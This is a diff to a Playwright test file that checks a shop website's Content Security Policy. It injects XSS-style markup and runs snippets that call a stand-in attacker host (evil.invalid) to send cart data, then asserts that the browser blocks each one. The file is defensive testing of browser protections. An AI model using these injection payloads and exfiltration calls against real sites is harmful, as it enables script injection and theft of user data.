@@ -1,13 +1,17 @@
 import { expect } from '@playwright/test'
 import { test } from './support/test.ts'
 
-/** What an attacker got into a page through the build, and how the browser reports its refusal. */
+/** Markup that an attacker got into a page through the build, and how the browser reports its refusal. */
 const MARKUP: Readonly<Record<string, string>> = {
   "<script>document.title = 'taken'</script>": 'script-src-elem by inline',
   '<img src=x onerror="document.title = \'taken\'">': 'script-src-attr by inline',
   '<script src="https://evil.invalid/x.js"></script>': 'script-src-elem by https://evil.invalid/x.js',
   '<style>body { display: none }</style>': 'style-src-elem by inline',
+  '<p style="position: fixed; inset: 0">Nič</p>': 'style-src-attr by inline',
+  '<link rel="stylesheet" href="https://evil.invalid/x.css">': 'style-src-elem by https://evil.invalid/x.css',
   '<iframe src="https://evil.invalid/"></iframe>': 'frame-src by https://evil.invalid',
+  '<object data="https://evil.invalid/x"></object>': 'object-src by https://evil.invalid',
+  '<video src="https://evil.invalid/x.mp4"></video>': 'media-src by https://evil.invalid/x.mp4',
   '<base href="https://evil.invalid/">': 'base-uri by https://evil.invalid',
 }
 
@@ -20,24 +24,54 @@ const ATTACKS: Readonly<Record<string, () => unknown>> = {
     ).trustedTypes.createPolicy('default', {}),
   'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://evil.invalid/?cart' })),
   'connect-src': () => fetch('https://evil.invalid/?cart').catch(() => undefined),
+  'font-src': () => new FontFace('evil', 'url(https://evil.invalid/x.woff2)').load().catch(() => undefined),
+  'form-action': () => {
+    const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/?cart' })
+    document.body.append(form)
+    form.submit()
+  },
 }
 
-test('markup and code that got into a page are refused, and any test would fail on them', async ({
-  page,
-  policyViolations,
-}) => {
-  await page.route('/kontakt', async (route) => {
-    const response = await route.fetch()
-    const markup = Object.keys(MARKUP).join('\n')
-    await route.fulfill({ response, body: (await response.text()).replace('<main', `${markup}<main`) })
+// The second is 404.html; the third is, too, below a folder whose header allows nothing at all.
+for (const path of ['/kontakt', '/neexistuje', '/_astro/neexistuje.js'])
+  test(`markup and code that got into ${path} are refused, and any test would fail on them`, async ({
+    page,
+    policyViolations,
+  }) => {
+    await page.route(path, async (route) => {
+      const response = await route.fetch()
+      const markup = Object.keys(MARKUP).join('\n')
+      await route.fulfill({ response, body: (await response.text()).replace('<main', `${markup}<main`) })
+    })
+    await page.goto(path)
+    for (const attack of Object.values(ATTACKS)) await page.evaluate(attack).catch(() => undefined)
+    for (const how of [...Object.values(MARKUP), ...Object.keys(ATTACKS).map((directive) => `${directive} `)])
+      await expect
+        .poll(() => policyViolations)
+        .toContainEqual(expect.stringContaining(`securitypolicyviolation of ${how}`))
+    await expect(page).toHaveTitle(/^(?!taken|1$)/)
+    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
+    policyViolations.length = 0
   })
-  await page.goto('/kontakt')
-  for (const attack of Object.values(ATTACKS)) await page.evaluate(attack).catch(() => undefined)
-  for (const how of [...Object.values(MARKUP), ...Object.keys(ATTACKS).map((directive) => `${directive} `)])
-    await expect
-      .poll(() => policyViolations)
-      .toContainEqual(expect.stringContaining(`securitypolicyviolation of ${how}`))
-  await expect(page).toHaveTitle(/^Kontakt/)
-  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+
+test('no script runs in a picture that is opened by itself', async ({ page, policyViolations }) => {
+  await page.route('/favicon.svg', async (route) => {
+    const response = await route.fetch()
+    const body = (await response.text()).replace('</svg>', '<script>document.title = "taken"</script></svg>')
+    await route.fulfill({ response, body })
+  })
+  await page.goto('/favicon.svg')
+  await expect.poll(() => policyViolations.join()).toContain('script-src')
+  expect(await page.evaluate(() => document.title)).not.toBe('taken')
+  policyViolations.length = 0
+})
+
+test('no page shows the shop in a frame, not even one of its own', async ({ page, policyViolations }) => {
+  await page.route('/v-rame', (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<iframe src="/kontakt"></iframe>' }),
+  )
+  await page.goto('/v-rame')
+  await expect.poll(() => policyViolations.join()).toContain('frame-ancestors')
+  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0)
   policyViolations.length = 0
 })
